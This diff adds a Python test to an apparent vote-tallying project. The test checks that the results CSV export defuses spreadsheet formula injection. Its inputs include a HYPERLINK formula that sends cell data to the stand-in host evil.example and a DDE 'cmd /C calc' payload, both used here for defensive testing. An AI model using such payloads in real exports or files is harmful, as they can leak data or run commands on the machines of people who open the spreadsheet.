@@ -115,3 +115,30 @@ def test_issued_by_and_the_operator_are_length_bounded():
         parse_round2_document(doc)
     with pytest.raises(ValidationError, match="longer than"):
         validate_operator("o" * 10_000)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_results_csv_cells_a_spreadsheet_would_run_are_inert(start):
+    import csv
+    import io
+
+    from countdesk.domain.tally import tally
+    from countdesk.exchange.countfile import load_count_file
+    from countdesk.exchange.results_csv import results_to_csv
+
+    count = load_count_file(LIVERPOOL)
+    contest = count.contests[0]
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    first = contest.candidates[0]
+    from dataclasses import replace
+
+    contest = replace(contest, title=f"{start}cmd|' /C calc'!A0",
+                      candidates=(replace(first, name=attack, description=f"{start}1+1"), *contest.candidates[1:]))
+    count = replace(count, contests=(contest,))
+    result = tally(count)[0]
+    rows = list(csv.DictReader(io.StringIO(results_to_csv([(count.election, contest, result)]))))
+    row = next(r for r in rows if r["candidate_id"] == first.id)
+    for column in ("candidate_name", "party_name", "contest_title"):
+        assert row[column].startswith("'" + start), (column, row[column])
+    assert row["candidate_name"][1:] == attack  # strip the ' to get the name exactly as entered
+    assert all(not r["votes"].startswith("'") for r in rows)
